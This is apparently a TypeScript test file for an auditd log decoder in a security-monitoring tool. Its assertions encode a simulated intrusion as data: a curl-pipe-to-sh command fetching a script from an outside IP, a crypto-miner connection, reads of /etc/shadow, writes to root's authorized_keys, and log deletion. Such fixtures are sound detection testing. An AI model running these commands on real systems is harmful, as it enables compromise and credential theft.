// The decoder end to end on records written as the kernel and auditd write them (fixtures/sample.log).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import type { FileAccessEvent, NamespaceChangeEvent, NetConnectEvent, PipelineLossEvent, ProcessExecEvent, VigilEvent } from '../../events/model.js';
import { sourceDirOf } from '../../util/paths.js';
import { decodeFile } from './testing.js';

const sample = join(sourceDirOf(import.meta.url), 'fixtures', 'sample.log');
const { events, issues } = decodeFile(sample);

function byId<T extends VigilEvent>(id: string): T {
  const found = events.filter((e) => e.id === id);
  assert.equal(found.length, 1, `one event with id ${id}, got ${found.length}`);
  return found[0] as T;
}

test('linux-audit: exec with a hex-encoded argument becomes process.exec', () => {
  const e = byId<ProcessExecEvent>('1741944067.412:48213');
  assert.equal(e.kind, 'process.exec');
  assert.equal(e.source, 'linux-audit');
  assert.equal(e.time, 1741944067412);
  assert.equal(e.node, 'test-node');
  assert.deepEqual(e.process.args, ['sh', '-c', 'curl -fsSL http://203.0.113.45/k.sh | sh']);
  assert.equal(e.process.commandLine, 'sh -c curl -fsSL http://203.0.113.45/k.sh | sh');
  assert.equal(e.process.executable, '/bin/busybox');
  assert.equal(e.process.cwd, '/app');
  assert.equal(e.process.pid, 203342);
  assert.equal(e.process.ppid, 203311);
  assert.equal(e.process.uid, 0);
  assert.equal(e.process.auid, undefined, '4294967295 is unset');
  assert.equal(e.process.tty, undefined, '(none) is no tty');
  assert.equal(e.process.comm, 'sh');
  assert.equal(e.origin, 'sample.log:1');
  assert.deepEqual(e.ancestors, []);
});

test('linux-audit: interleaved serials assemble apart; ancestors come from earlier execs', () => {
  const curl = byId<ProcessExecEvent>('1741944067.530:48214');
  assert.deepEqual(curl.process.args, ['curl', '-fsSL', 'http://203.0.113.45/k.sh']);
  assert.equal(curl.process.executable, '/usr/bin/curl');
  assert.equal(curl.ancestors.length, 1);
  assert.equal(curl.ancestors[0].pid, 203342);
  assert.equal(curl.ancestors[0].commandLine, 'sh -c curl -fsSL http://203.0.113.45/k.sh | sh');

  const miner = byId<NetConnectEvent>('1741944067.531:48215');
  assert.equal(miner.kind, 'net.connect');
  assert.equal(miner.family, 'inet');
  assert.equal(miner.remoteAddress, '203.0.113.45');
  assert.equal(miner.remotePort, 3333);
  assert.equal(miner.success, true, 'EINPROGRESS (-115) is an attempted connect');
  assert.deepEqual(miner.process.args, ['/tmp/.x/kworkerd', '-o', 'pool.example.net:3333', '--donate-level=1'], 'argv from PROCTITLE');
  assert.equal(miner.ancestors[0]?.pid, 203342);
});

test('linux-audit: IPv6 and unix connects; netlink is ignored; argv of a known process comes from its exec', () => {
  const v6 = byId<NetConnectEvent>('1741944067.600:48216');
  assert.equal(v6.family, 'inet6');
  assert.equal(v6.remoteAddress, '2001:db8:85a3::8a2e:370:7334');
  assert.equal(v6.remotePort, 443);
  assert.equal(v6.success, true);
  assert.deepEqual(v6.process.args, ['curl', '-fsSL', 'http://203.0.113.45/k.sh']);
  assert.equal(v6.process.startTime, 1741944067530);

  const unix = byId<NetConnectEvent>('1741944067.700:48217');
  assert.equal(unix.family, 'unix');
  assert.equal(unix.remoteAddress, '/run/containerd/containerd.sock');
  assert.equal(unix.remotePort, undefined);
  assert.equal(unix.success, false, 'ECONNREFUSED');
  assert.equal(events.some((e) => e.id === '1741944067.701:48218'), false);
});

test('linux-audit: file accesses: relative names against CWD, open flags, unlink, rename', () => {
  const read = byId<FileAccessEvent>('1741944068.001:48220');
  assert.equal(read.kind, 'file.access');
  assert.equal(read.path, '/etc/shadow');
  assert.equal(read.operation, 'read');
  assert.equal(read.success, true);

  const create = byId<FileAccessEvent>('1741944068.100:48221');
  assert.equal(create.path, '/root/.ssh/authorized_keys');
  assert.equal(create.operation, 'create');

  const unlink = byId<FileAccessEvent>('1741944068.200:48222');
  assert.equal(unlink.operation, 'unlink');
  assert.equal(unlink.path, '/var/log/auth log');

  const rename = byId<FileAccessEvent>('1741944068.300:48223');
  assert.equal(rename.operation, 'rename');
  assert.equal(rename.path, '/var/log/syslog');
  assert.equal(rename.targetPath, '/tmp/x');
});

test('linux-audit: unshare with CLONE_NEW* flags becomes process.namespace', () => {
  const ns = byId<NamespaceChangeEvent>('1741944068.400:48224');
  assert.equal(ns.kind, 'process.namespace');
  assert.equal(ns.operation, 'unshare');
  assert.deepEqual([...ns.namespaces].sort(), ['mnt', 'net', 'pid']);
  assert.equal(ns.success, true);
});

test('linux-audit: aarch64 syscall numbers and the node= prefix', () => {
  const e = byId<ProcessExecEvent>('1741944068.500:48225');
  assert.equal(e.kind, 'process.exec');
  assert.equal(e.node, 'arm-node-1');
  assert.deepEqual(e.process.args, ['kubectl', 'get', 'secrets']);
  assert.equal(e.process.auid, 1001);
  assert.equal(e.process.tty, 'pts0');
});

test('linux-audit: non-UTF-8 bytes, newlines and quotes in arguments; several rule keys', () => {
  const e = byId<ProcessExecEvent>('1741944100.300:48302');
  assert.equal(e.process.executable, '/tmp/\\xff\\xfex');
  assert.deepEqual(e.process.args, ['/tmp/\\xff\\xfex', 'line1\nline2 "quoted"']);
  assert.equal(e.process.comm, '\\xff\\xfex');
});

test('linux-audit: garbage and cut lines are issues with file:line; the events around them survive', () => {
  assert.deepEqual(
    issues.map((i) => `${i.origin.file}:${i.origin.line} ${i.reason}`),
    [
      'sample.log:53 not an auditd record (no "type=" at the start)',
      'sample.log:54 malformed "msg=audit(seconds.millis:serial):" header',
      'sample.log:55 malformed "msg=audit(seconds.millis:serial):" header',
    ],
  );
  assert.equal(events.filter((e) => e.kind !== 'pipeline.loss').length, 12);
});

test('linux-audit: the kernel lost counter becomes pipeline.loss events, by increase', () => {
  const losses = events.filter((e): e is PipelineLossEvent => e.kind === 'pipeline.loss');
  assert.deepEqual(
    losses.map((l) => [l.count, l.reason, l.node, l.origin]),
    [
      [5, 'kernel-audit-lost', 'test-node', 'sample.log:56'],
      [7, 'kernel-audit-lost', 'test-node', 'sample.log:57'],
    ],
  );
});
